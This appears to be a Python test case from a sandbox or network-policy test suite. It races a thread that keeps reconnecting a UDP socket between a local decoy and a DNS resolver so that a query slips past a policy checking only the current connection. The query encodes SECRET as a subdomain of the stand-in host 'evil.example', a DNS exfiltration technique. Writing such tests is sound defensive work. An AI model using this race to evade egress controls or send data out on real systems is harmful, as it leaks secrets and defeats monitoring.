# class: network
# rule: outbound_connectivity
# policy: names.yaml
# success: during a send, another thread connects the socket to the resolver instead of this machine
# proof: query
# needs: resolver
# unreported: a policy that only reports sends to wherever the socket is connected at that moment
import socket
import threading
import time

from attack import RESOLVER, SECRET, attempt, patience


def labels(*names):
    return b"".join(bytes([len(name)]) + name.encode() for name in names) + b"\0"


def question(*names, records=0):
    return b"\x12\x34\x01\0\0\x01\0\0\0\0\0" + bytes([records]) + labels(*names) + b"\0\x01\0\x01"


@attempt
def ask():
    quiet = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    quiet.bind(("127.0.0.1", 0))
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.bind(("127.0.0.1", 0))
    out.setblocking(False)
    end = time.monotonic() + patience(3)
    packet = question(SECRET, "evil", "example")

    def connect():
        while time.monotonic() < end:
            out.connect(quiet.getsockname())
            out.connect((RESOLVER, 53))

    thread = threading.Thread(target=connect)
    thread.start()
    answered = False
    while time.monotonic() < end and not answered:
        try:
            out.send(packet)
        except OSError:
            pass
        try:
            answered = len(out.recv(512)) > 12
        except OSError:
            pass
    end = 0
    thread.join()
    return answered
